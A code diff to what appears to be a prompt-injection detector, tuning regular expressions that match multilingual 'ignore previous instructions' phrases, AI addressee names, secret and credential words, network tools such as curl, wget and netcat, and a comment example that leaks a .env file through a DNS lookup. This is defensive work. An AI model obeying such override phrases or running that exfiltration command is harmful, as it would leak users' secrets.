@@ -34,7 +34,7 @@ import codecs
 import contextlib
 import re
 
-from .firststart import StartRe
+from .firststart import DispatchRe, StartRe, finditer_whole, whole
 from .lazyre import LazyRe, lazy
 from .near import AnyOf, chain_of
 
@@ -166,20 +166,34 @@ _PERSONA_ML = StartRe(
 )
 
 # The same in languages written in Latin letters (Turkish, Portuguese, Polish, Dutch): these run on ASCII text too.
-_IGNORE_ML_LATIN = StartRe(
-    r"(?:\b(?:önceki|yukarıdaki|yukaridaki|tüm|bütün|mevcut)\s+(?:\w+\s+){0,2}(?:talimat|komut|yönerge|kural|istem)\w*\s+(?:\w+\s+){0,2}?(?:unut|yok\s+say|görmezden\s+gel|dikkate\s+alma|geçersiz|iptal|umursama)"
-    r"|\b(?:talimat|yönerge)\w*\s+(?:iptal|geçersiz)"
-    r"|\bignor[ea]\s+(?:todas\s+(?:as\s+)?(?:suas\s+)?|suas\s+)instru[çc](?:ões|oes)|\besque[çc]a\s+(?:todas\s+)?(?:as\s+)?instru[çc]"
-    r"|\b(?:zignoruj|ignoruj|zapomnij)\s+(?:o\s+)?(?:wszystkie\s+|wszystkich\s+)?(?:poprzednie\s+|poprzednich\s+|wcześniejsze\s+)?(?:instrukcje|instrukcjach|polecenia|zasady)"
-    r"|\b(?:negeer|vergeet)\s+(?:alle\s+)?(?:vorige\s+|eerdere\s+|voorgaande\s+)?(?:instructies|opdrachten|regels)"
-    # any word order and inflection: an ignore/forget verb, an "instructions" noun within three words, and a word
-    # for "all", "your" or "previous" near them (ES, PT, FR, IT, DE, ID, TL, VI); without the qualifier it is the
-    # ordinary "skip the installation instructions if you use Docker"
-    r"|\b(?:ignor|olvid|oubli|dimentic|vergiss|vergess|esque[çc]|abaikan|lupakan|kalimutan|balewalain|quên|bỏ\s+qua)\w*"
-    r"(?=[^.\n]{0,80}\b(?:todas|todos|tus|sus|vuestras|anteriores|previas|toutes|tous|tes|vos|précédentes|tutte|tue|precedenti|alle|deine|ihre"
-    r"|vorherigen|bisherigen|suas|semua|sebelumnya|lahat|iyong|nakaraang|trước|tất)\b)"
-    r"\s+(?:\S+\s+){0,3}?(?:instru[cçkz]\w*|istruz\w*|anweisung\w*|consignes?|petunjuk|perintah|tagubilin|direttiv\w*|directiv\w*|hướng\s+dẫn|chỉ\s+dẫn|chỉ\s+thị))",
-    re.I,
+# (the last branch, verb / qualifier within 80 characters / noun within three words, is a near.Chain: as a lookahead
+# window it tried the qualifiers at 80 positions after every verb, 99 ms per 100 KB of "ignore "; tests/test_near.py
+# keeps the pattern it was)
+_IGNORE_ML_LATIN = AnyOf(
+    StartRe(
+        r"(?:\b(?:önceki|yukarıdaki|yukaridaki|tüm|bütün|mevcut)\s+(?:\w+\s+){0,2}(?:talimat|komut|yönerge|kural|istem)\w*\s+(?:\w+\s+){0,2}?(?:unut|yok\s+say|görmezden\s+gel|dikkate\s+alma|geçersiz|iptal|umursama)"
+        r"|\b(?:talimat|yönerge)\w*\s+(?:iptal|geçersiz)"
+        r"|\bignor[ea]\s+(?:todas\s+(?:as\s+)?(?:suas\s+)?|suas\s+)instru[çc](?:ões|oes)|\besque[çc]a\s+(?:todas\s+)?(?:as\s+)?instru[çc]"
+        r"|\b(?:zignoruj|ignoruj|zapomnij)\s+(?:o\s+)?(?:wszystkie\s+|wszystkich\s+)?(?:poprzednie\s+|poprzednich\s+|wcześniejsze\s+)?(?:instrukcje|instrukcjach|polecenia|zasady)"
+        r"|\b(?:negeer|vergeet)\s+(?:alle\s+)?(?:vorige\s+|eerdere\s+|voorgaande\s+)?(?:instructies|opdrachten|regels)"
+        r")",
+        re.I,
+    ),
+    (
+        # any word order and inflection: an ignore/forget verb, an "instructions" noun within three words, and a word
+        # for "all", "your" or "previous" within 80 characters after the verb (ES, PT, FR, IT, DE, ID, TL, VI); without the
+        # qualifier it is the ordinary "skip the installation instructions if you use Docker"
+        chain_of(
+            (
+                r"\b(?:ignor|olvid|oubli|dimentic|vergiss|vergess|esque[çc]|abaikan|lupakan|kalimutan|balewalain|quên|bỏ\s+qua)\w*"
+                r"(?=\s+(?:\S+\s+){0,3}?(?:instru[cçkz]\w*|istruz\w*|anweisung\w*|consignes?|petunjuk|perintah|tagubilin|direttiv\w*|directiv\w*|hướng\s+dẫn|chỉ\s+dẫn|chỉ\s+thị))",
+                r"\b(?:todas|todos|tus|sus|vuestras|anteriores|previas|toutes|tous|tes|vos|précédentes|tutte|tue|precedenti|alle|deine|ihre"
+                r"|vorherigen|bisherigen|suas|semua|sebelumnya|lahat|iyong|nakaraang|trước|tất)\b",
+            ),
+            (80,),
+            re.I,
+        ),
+    ),
 )
 _REVEAL_ML_LATIN = StartRe(
     r"(?:\bsistem\s+(?:istem|mesaj|talimat)\w*\s+(?:\w+\s+){0,3}?(?:göster|yaz|açıkla|sızdır|tekrarla))",
@@ -192,7 +206,8 @@ _PERSONA_ML_LATIN = StartRe(
 # Patterns that can only match non-ASCII text: skipped on ASCII variants.
 _NON_LATIN = (_IGNORE_ML, _REVEAL_ML, _PERSONA_ML)
 # A cheap first look for an addressee before the expensive structural pattern runs around it.
-_ADDR_HINT = lazy(
+# (firststart.whole: re skips the characters no addressee starts with, and each match keeps its end)
+_ADDR_HINT = whole(
     r"\b(?:claude|chatgpt|gpt|copilot|gemini|cursor|codex|devin|aider|windsurf|cline|jules|opencode|llms?|language\s+models?|ai|agents?|assistants?|bots?|models?)\b",
     re.I,
 )
@@ -215,7 +230,8 @@ _PRE_IMP = (
 )
 _VERB = r"([a-z][a-z-]+)"
 _SUBORD = r"(?:(?:before|after|when|once|if|while|whenever)\b[^,.;\n]{0,80},\s*)?"
-_DIRECTED = lazy(
+# (firststart.whole: re skips the characters no direction starts with, e.g. every blank line; the match keeps its end)
+_DIRECTED = whole(
     # vocative: at the start of a line or sentence, optionally after a greeting or "note to"
     # (not inside a run of bullets: the run's first position reads all of it, so starting again at each
     # of its characters would make a page of "!!!!" quadratic)
@@ -260,7 +276,8 @@ _CONSEQUENTIAL_WORDS = (
     "shutdown uninstall unlink shred rewrite amend rebase"
 )
 _CONSEQUENTIAL_VERB = frozenset(_CONSEQUENTIAL_WORDS.split())
-_CONSEQUENTIAL_TEXT = StartRe(
+# (a DispatchRe: at a '|', '.' or '-' only the alternatives that start with it are tried, 60 -> 15 ms per 100 KB)
+_CONSEQUENTIAL_TEXT = DispatchRe(
     r"(?:https?://|(?<![\w.+-])[\w.+-]++@[\w-]++\.[a-z]{2,}\b|\.env\b|\bcredentials?\b|\bapi[\s_-]?keys?\b|\bsecrets?\b|\btokens?\b|\bpasswords?\b|\bprivate\s+keys?\b|id_rsa|\.ssh\b|\.aws\b"
     r"|\brm\s+-|\bcurl\b|\bwget\b|\|\s*(?:ba|z)?sh\b|\bchmod\b|\bsudo\b|--force\b|\bforce[\s-]push"
     r"|\b(?:do\s+not|don'?t|never|without)\s+(?:tell|telling|inform|informing|mention|mentioning|alert|alerting|notify|notifying)\w*\s+(?:\w+\s+)?user"
@@ -493,7 +510,9 @@ def normalise(text: str) -> str:
 
 # A URL fragment or query value made of six or more words joined by -, _ or + (a sentence, not a slug of a title
 # is told apart by what the words say: they are scanned).
-_LINK_WORDS = lazy(r"[#?=](?:[A-Za-z:,.'!?]{1,20}[-_+]){6,}[A-Za-z:,.'!?]{1,20}")
+# (each word possessive: it stops at a character of its class, never at a joiner, so giving characters back never finds one;
+# tried at every `?` of "???…" it gave back twenty each time, 24 ms per 100 KB)
+_LINK_WORDS = lazy(r"[#?=](?:[A-Za-z:,.'!?]{1,20}+[-_+]){6,}[A-Za-z:,.'!?]{1,20}")
 _LINK_SEP = lazy(r"[-_+]")
 _HEX = lazy(r"\b(?:[0-9a-fA-F]{2}){12,}\b")
 _BIN = lazy(r"(?:[01]{8}\s+){6,}[01]{8}")
@@ -545,14 +564,21 @@ def _shifted(word: str, k: int) -> str:
     return "".join(chr((ord(c) - 97 + k) % 26 + 97) for c in word)
 
 
-# shifted word -> distance, and one alternation of those literals (linear in the text; compiled on first use)
+# shifted word -> distance, longest first (where two start at the same place, the longer is the one found)
 _CAESAR_INDEX = {_shifted(w, k): k for k in range(1, 26) for w in _CAESAR_WORDS}
-_CAESAR = lazy("|".join(sorted(_CAESAR_INDEX, key=len, reverse=True)))
+_CAESAR_ORDER = sorted(_CAESAR_INDEX, key=len, reverse=True)
 
 
 def _caesar_shift(low: str) -> int:
-    m = _CAESAR.search(low)
-    return _CAESAR_INDEX[m.group(0)] if m else 0
+    """The distance of the shifted word that starts first in *low* (0: none).  One str.find per shifted word (C speed
+    over any text), not one alternation of the hundred words tried at every position (27 ms per 100 KB of letters);
+    tests/test_caesar_scan.py checks the same answers as that alternation."""
+    best, word = len(low), ""
+    for w in _CAESAR_ORDER:
+        at = low.find(w, 0, best + len(w))
+        if 0 <= at < best:
+            best, word = at, w
+    return _CAESAR_INDEX[word] if word else 0
 
 
 def _decoded_variants(text: str) -> list[str]:
@@ -633,21 +659,22 @@ def _directed(text: str, folded: str | None = None) -> int:
         return 0
     # The structural pattern runs only in windows around a possible addressee (it is the probe's costliest).
     windows: list[list[int]] = []
-    for h in _ADDR_HINT.compiled.finditer(text):
-        lo, hi = max(0, h.start() - 80), min(len(text), h.end() + 320)
+    for h in finditer_whole(_ADDR_HINT, text):
+        lo, hi = max(0, h.start(1) - 80), min(len(text), h.end(1) + 320)
         if windows and lo <= windows[-1][1]:
             windows[-1][1] = hi
         else:
             windows.append([lo, hi])
     best = 0
     for lo, hi in windows:
-        for m in _DIRECTED.compiled.finditer(text, lo, hi):
-            verb = next((g for g in m.groups() if g), "").lower()
+        for m in finditer_whole(_DIRECTED, text, lo, hi):
+            verb = next((g for g in m.groups()[1:] if g), "").lower()
+            start, end = m.span(1)
             # the sentence the direction stands in (up to 300 characters)
-            tail = text[m.start() : m.end() + 300]
-            cut = _SENTENCE_END.search(tail[m.end() - m.start() :])
-            sentence = tail[: m.end() - m.start() + cut.start()] if cut else tail
-            negated = bool(_NEGATED_TAIL.search(text[m.start() : m.end()]))
+            tail = text[start : end + 300]
+            cut = _SENTENCE_END.search(tail[end - start :])
+            sentence = tail[: end - start + cut.start()] if cut else tail
+            negated = bool(_NEGATED_TAIL.search(text[start:end]))
             if (verb in _CONSEQUENTIAL_VERB and not negated) or _CONSEQUENTIAL_TEXT.search(sentence):
                 return 3
             best = 2
@@ -860,8 +887,11 @@ def warning(result: ProbeResult, tool_name: str) -> str:
 GUARD_RULE = "probe.outbound-after-injection"
 HIT_RULE = "probe.injection"
 GUARD_WINDOW_S = 3600.0
-_NET_COMMAND = StartRe(
-    r"(?:^|[\s;&|(`$'\"/])(?=[cwnsrfthxalgiImdIpe])(?:curl|wget|nc|ncat|netcat|socat|ssh|scp|sftp|rsync|ftp|tftp|telnet|http|https|xh|aria2c|lwp-request|gh|glab|twine|"
+# (the program's name starts the match, after the start or a separator: a match started at the separator made every
+# blank a place to try the whole list, 80 ms per 100 KB of blanks; tests/test_net_command.py keeps that pattern;
+# a DispatchRe: at each letter only the alternatives that start with it)
+_NET_COMMAND = DispatchRe(
+    r"(?<![^\s;&|(`$'\"/])(?:curl|wget|nc|ncat|netcat|socat|ssh|scp|sftp|rsync|ftp|tftp|telnet|http|https|xh|aria2c|lwp-request|gh|glab|twine|"
     r"iwr|irm|Invoke-WebRequest|Invoke-RestMethod|Send-MailMessage|sendmail|mail|mutt|dig|nslookup|host|rclone|s3cmd|azcopy|"
     # round 12b: a host name looked up is a message out (`ping $(base64 .env).x.example`), a text browser fetches, a
     # database client with a host sends its queries there
